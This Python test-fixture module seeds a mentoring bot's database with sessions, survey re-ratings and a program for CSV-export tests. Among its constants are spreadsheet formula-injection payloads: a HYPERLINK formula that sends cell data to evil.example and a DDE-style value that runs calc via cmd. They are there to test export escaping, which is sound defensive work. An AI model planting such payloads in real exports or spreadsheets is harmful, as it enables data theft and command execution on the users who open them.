"""Whole programs seeded through the services, for the figures read back from them: the weeks
of sessions and the re-ratings the charts and the report draw, and the program the coordinators'
CSV export reads (with the columns each file must have).

The charts are drawn on Wednesday 25 November 2026; the last twelve ISO weeks run from Monday
7 September to Sunday 29 November 2026 (UTC).
"""

from __future__ import annotations

import re
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

from sqlalchemy.orm import Session, sessionmaker

from bot.services import sessions as session_rules
from bot.services.agreements import pair_goals, set_goal_status
from bot.services.checkins import CheckInInput, record_outcome
from bot.services.enrollment import save_profile
from bot.services.pairs import create_pair
from bot.services.participation import leave, pause
from bot.services.surveys import SurveyInput, save_response
from models import Pair, Participant
from models.enums import CheckInOutcome, GoalStatus, PairStatus, Role, SurveyKind
from tests.factories import (
    MENTEE,
    MENTEE_GOALS,
    MENTEE_USER,
    MENTOR,
    MENTOR_GOALS,
    MENTOR_USER,
    TEAM,
    SeededPair,
    book,
    save_goals,
    schedule_session,
    seed_pair,
)
from tests.factories import held as check_in_held
from tests.support import REPO_ROOT

# -- sessions and re-ratings, for the charts -------------------------------------------------------

CHART_NOW = datetime(2026, 11, 25, 12, 0, tzinfo=UTC)  # a Wednesday
ENROLLED = datetime(2026, 8, 3, 9, 0, tzinfo=UTC)
OTHER_TEAM = "T0OTHER"
MIDPOINT_AT = datetime(2026, 10, 5, 9, 0, tzinfo=UTC)
FINAL_AT = datetime(2026, 11, 16, 9, 0, tzinfo=UTC)


def add_session(
    session_factory: sessionmaker[Session], pair: SeededPair, starts: datetime, outcome: str
) -> None:
    """A session of the pair at `starts`: "held", "cancelled", "missed" or "scheduled"."""
    with session_factory.begin() as db_session:
        session = schedule_session(
            db_session, pair, starts, agenda="", now=starts - timedelta(days=7)
        )
        after = starts + timedelta(hours=2)
        if outcome == "held":
            record_outcome(
                db_session,
                session=session,
                user_id=MENTOR_USER,
                outcome=CheckInOutcome.HAPPENED,
                now=after,
            )
        elif outcome == "missed":
            record_outcome(
                db_session,
                session=session,
                user_id=MENTOR_USER,
                outcome=CheckInOutcome.RESCHEDULED,
                now=after,
            )
        elif outcome == "cancelled":
            session_rules.cancel(
                db_session,
                session=session,
                user_id=MENTOR_USER,
                reason="clash",
                now=starts - timedelta(days=1),
            )


def seed_sessions(session_factory: sessionmaker[Session]) -> SeededPair:
    """Sessions in known weeks, a few right on the edges, and another workspace's session."""
    pair = seed_pair(session_factory, now=ENROLLED)
    berlin = ZoneInfo("Europe/Berlin")
    for starts, outcome in [
        (datetime(2026, 9, 6, 23, 59, tzinfo=UTC), "held"),  # the Sunday before the window
        (datetime(2026, 9, 7, 0, 0, tzinfo=UTC), "held"),  # the window's first instant
        (datetime(2026, 11, 9, 0, 0, tzinfo=UTC), "cancelled"),  # Monday 00:00
        (datetime(2026, 11, 10, 10, 0, tzinfo=UTC), "held"),
        # Monday 00:30 in Berlin is still Sunday 15 Nov in UTC: the week of 9 Nov.
        (datetime(2026, 11, 16, 0, 30, tzinfo=berlin), "held"),
        (datetime(2026, 11, 16, 0, 0, tzinfo=UTC), "held"),  # Monday 00:00: the week of 16 Nov
        (datetime(2026, 11, 18, 15, 0, tzinfo=UTC), "missed"),
        (datetime(2026, 11, 23, 8, 0, tzinfo=UTC), "held"),  # this week, before now
        (datetime(2026, 11, 24, 20, 0, tzinfo=UTC), "scheduled"),  # nobody checked in yet
        (datetime(2026, 11, 27, 15, 0, tzinfo=UTC), "cancelled"),  # later this week, called off
    ]:
        add_session(session_factory, pair, starts, outcome)
    with session_factory.begin() as db_session:
        mentor = save_profile(
            db_session,
            team_id=OTHER_TEAM,
            user_id="U0OM",
            profile=MENTOR,
            timezone=None,
            now=ENROLLED,
        ).participant
        mentee = save_profile(
            db_session,
            team_id=OTHER_TEAM,
            user_id="U0OE",
            profile=MENTEE,
            timezone=None,
            now=ENROLLED,
        ).participant
        other = create_pair(
            db_session, mentor=mentor, mentee=mentee, status=PairStatus.ACTIVE, now=ENROLLED
        )
        session = session_rules.schedule(
            db_session,
            pair=other,
            user_id="U0OM",
            starts_at=datetime(2026, 11, 10, 10, 0, tzinfo=UTC),
            minutes=45,
            agenda="",
            now=ENROLLED,
        )
        record_outcome(
            db_session,
            session=session,
            user_id="U0OM",
            outcome=CheckInOutcome.HAPPENED,
            now=CHART_NOW,
        )
    return pair


@dataclass(frozen=True)
class Person:
    user: str
    learn: dict[str, int]  # topic -> self-rating at sign-up
    midpoint: dict[str, int] | None = None
    final: dict[str, int] | None = None
    team: str = TEAM


def enrol_pair(db_session: Session, mentee: Person, mentor_user: str) -> tuple[Pair, Participant]:
    profile = replace(MENTEE, learn_topics=list(mentee.learn), self_ratings=dict(mentee.learn))
    learner = save_profile(
        db_session,
        team_id=mentee.team,
        user_id=mentee.user,
        profile=profile,
        timezone=None,
        now=ENROLLED,
    ).participant
    mentor = save_profile(
        db_session,
        team_id=mentee.team,
        user_id=mentor_user,
        profile=MENTOR,  # wants to learn leadership, rated 2
        timezone=None,
        now=ENROLLED,
    ).participant
    pair = create_pair(
        db_session, mentor=mentor, mentee=learner, status=PairStatus.ACTIVE, now=ENROLLED
    )
    pair.mentor, pair.mentee = mentor, learner
    return pair, learner


def answer(
    db_session: Session, pair: Pair, person: Participant, kind: SurveyKind, ratings: dict[str, int]
) -> None:
    save_response(
        db_session,
        pair=pair,
        person=person,
        kind=kind,
        values=SurveyInput(effectiveness=4, would_recommend=True, ratings=ratings),
        now=FINAL_AT if kind == SurveyKind.FINAL else MIDPOINT_AT,
    )


# Three people re-rated Generative AI (one of them twice: the final answer counts), two
# re-rated Social media, one mentor re-rated Leadership; Dee never answered a survey, and
# the other workspace's answer is another program's.
PEOPLE = [
    Person(
        "U0ANN",
        {"generative_ai": 1, "social_media": 2},
        midpoint={"generative_ai": 3, "social_media": 3},
        final={"generative_ai": 4, "social_media": 4},
    ),
    Person(
        "U0BEN",
        {"generative_ai": 2, "social_media": 3},
        midpoint={"generative_ai": 3, "social_media": 5},
    ),
    Person("U0CAT", {"generative_ai": 2}, final={"generative_ai": 5}),
    Person("U0DEE", {"generative_ai": 5}),
    Person("U0EVA", {"generative_ai": 5}, final={"generative_ai": 1}, team=OTHER_TEAM),
]


def seed_growth(session_factory: sessionmaker[Session]) -> int:
    """The people above, each paired with a mentor of their own; returns the program id."""
    with session_factory.begin() as db_session:
        program_id = 0
        for n, person in enumerate(PEOPLE):
            pair, learner = enrol_pair(db_session, person, mentor_user=f"U0MENTOR{n}")
            if person.team == TEAM:
                program_id = pair.program_id
            if person.midpoint is not None:
                answer(db_session, pair, learner, SurveyKind.MIDPOINT, person.midpoint)
            if person.final is not None:
                answer(db_session, pair, learner, SurveyKind.FINAL, person.final)
            if n == 0:
                assert pair.mentor is not None
                answer(db_session, pair, pair.mentor, SurveyKind.FINAL, {"leadership": 4})
        return program_id


# -- a program to export ---------------------------------------------------------------------------

JOINED = datetime(2026, 11, 1, 9, 0, tzinfo=UTC)
BOOKED = datetime(2026, 11, 2, 9, 0, tzinfo=UTC)
FIRST = datetime(2026, 11, 3, 15, 0, tzinfo=UTC)
HELD = datetime(2026, 11, 10, 15, 0, tzinfo=UTC)
CANCELLED = datetime(2026, 11, 17, 15, 0, tzinfo=UTC)
UPCOMING = datetime(2026, 12, 1, 15, 0, tzinfo=UTC)
EXPORT_AT = datetime(2026, 11, 23, 9, 30, tzinfo=UTC)

CAROL, DAN = "U0CAROL", "U0DAN"
# What people typed that a spreadsheet would run as a formula.
HOSTILE_DEPARTMENT = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
HOSTILE_LOCATION = "@SUM(1+1)*cmd|' /C calc'!A0"
CANCEL_REASON = "-1 Off sick, sorry"
AGENDA_TEXT = "AGENDA-TEXT"

MENTOR_NOTE = "MENTOR-PRIVATE: he seemed bored"
MENTEE_NOTE = "MENTEE-PRIVATE: I felt out of my depth"
FIRST_NOTE = "MENTEE-PRIVATE: too shy to ask anything"
LEARNED = "LEARNED-TEXT prompt chains"
FOLLOW_UP = "FOLLOW-UP-TEXT share the deck"
REASONS = [
    "Analyst can teach Generative AI, which Director wants to learn",
    "bridges Marketing and Finance",
]


def documented_columns(file_name: str) -> list[str]:
    """The columns the README's Exports table promises for a CSV file, in order: the export
    is checked against what its readers were told, not against a second copy of the code's
    list. Notes in parentheses are not columns."""
    readme = (REPO_ROOT / "README.md").read_text()
    row = next(line for line in readme.splitlines() if line.startswith(f"| `{file_name}` |"))
    columns = row.split("|")[3]
    return re.findall(r"`([a-z_]+)`", re.sub(r"\([^)]*\)", "", columns))


PARTICIPANT_HEADER = documented_columns("participants.csv")
PAIR_HEADER = documented_columns("pairs.csv")
SESSION_HEADER = documented_columns("sessions.csv")


class Seeded:
    """The seeded program's ids, for the expected rows."""

    def __init__(self, pair: SeededPair, sessions: tuple[int, int, int, int]) -> None:
        self.pair = pair
        self.first, self.held, self.cancelled, self.upcoming = sessions


def _enrol(session_factory: sessionmaker[Session], user: str, **changes: object) -> None:
    with session_factory.begin() as db_session:
        save_profile(
            db_session,
            team_id=TEAM,
            user_id=user,
            profile=replace(MENTOR, do_not_match=[], **changes),  # type: ignore[arg-type]
            timezone="Europe/Lisbon",
            now=JOINED,
        )


def _check_in(
    session_factory: sessionmaker[Session], session_id: int, user: str, values: CheckInInput
) -> None:
    """Every check-in of the scenario is answered an hour after the held session started."""
    check_in_held(session_factory, session_id, by=user, values=values, at=HELD + timedelta(hours=1))


def _agree(session_factory: sessionmaker[Session], pair: SeededPair) -> None:
    for user, values in ((MENTEE_USER, MENTEE_GOALS), (MENTOR_USER, MENTOR_GOALS)):
        save_goals(session_factory, user, values, at=BOOKED, pair_id=pair.pair_id)
    with session_factory.begin() as db_session:
        first, second, _third = pair_goals(db_session, pair_id=pair.pair_id)
        for goal, status in ((first, GoalStatus.ACHIEVED), (second, GoalStatus.DROPPED)):
            set_goal_status(
                db_session,
                team_id=TEAM,
                user_id=MENTEE_USER,
                goal_id=goal.id,
                status=status,
                now=HELD + timedelta(days=1),
            )


def _survey(session_factory: sessionmaker[Session], pair: SeededPair) -> None:
    answers = (
        (SurveyKind.MIDPOINT, {"generative_ai": 3, "social_media": 4}, HELD),
        (SurveyKind.FINAL, {"generative_ai": 4, "social_media": 4}, HELD + timedelta(days=5)),
    )
    for kind, ratings, at in answers:
        with session_factory.begin() as db_session:
            pair_row = db_session.get(Pair, pair.pair_id)
            person = db_session.get(Participant, pair.mentee_participant_id)
            assert pair_row is not None and person is not None
            save_response(
                db_session,
                pair=pair_row,
                person=person,
                kind=kind,
                values=SurveyInput(effectiveness=4, would_recommend=True, ratings=ratings),
                now=at,
            )


def seed_program(session_factory: sessionmaker[Session]) -> Seeded:
    """A pair with two sessions held (at the first only the mentee checked in, with a private
    note and no follow-up; both at the second), one cancelled by the mentee, one to come;
    goals agreed, one achieved and one dropped; the mentee surveyed twice. Beside them, Carol
    (paused, unpaired, typed formulas into her profile) and Dan (left)."""
    pair = seed_pair(session_factory, now=JOINED)
    with session_factory.begin() as db_session:
        row = db_session.get(Pair, pair.pair_id)
        assert row is not None
        row.score, row.reasons = 0.87, REASONS  # as matching records them
    _enrol(session_factory, CAROL, department=HOSTILE_DEPARTMENT, location=HOSTILE_LOCATION)
    _enrol(session_factory, DAN, role=Role.BOTH, department="Sales")
    with session_factory.begin() as db_session:
        pause(db_session, team_id=TEAM, user_id=CAROL, weeks=2, now=EXPORT_AT - timedelta(days=1))
        leave(db_session, team_id=TEAM, user_id=DAN, now=EXPORT_AT - timedelta(days=2))

    first = book(session_factory, pair, FIRST, agenda=AGENDA_TEXT, now=BOOKED)
    held = book(session_factory, pair, HELD, agenda=AGENDA_TEXT, now=BOOKED)
    cancelled = book(session_factory, pair, CANCELLED, agenda=AGENDA_TEXT, now=BOOKED)
    upcoming = book(session_factory, pair, UPCOMING, agenda=AGENDA_TEXT, now=BOOKED)
    _check_in(session_factory, first, MENTEE_USER, CheckInInput(rating=3, private_note=FIRST_NOTE))
    _check_in(
        session_factory,
        held,
        MENTOR_USER,
        CheckInInput(rating=5, topics=["generative_ai"], learned=LEARNED, private_note=MENTOR_NOTE),
    )
    _check_in(
        session_factory,
        held,
        MENTEE_USER,
        CheckInInput(
            rating=4,
            topics=["social_media", "generative_ai"],
            learned=LEARNED,
            private_note=MENTEE_NOTE,
            follow_up=FOLLOW_UP,
        ),
    )
    with session_factory.begin() as db_session:
        session = session_rules.session_for(db_session, session_id=cancelled, user_id=MENTEE_USER)
        session_rules.cancel(
            db_session,
            session=session,
            user_id=MENTEE_USER,
            reason=CANCEL_REASON,
            now=CANCELLED - timedelta(days=1),
        )
    _agree(session_factory, pair)
    _survey(session_factory, pair)
    return Seeded(pair, (first, held, cancelled, upcoming))
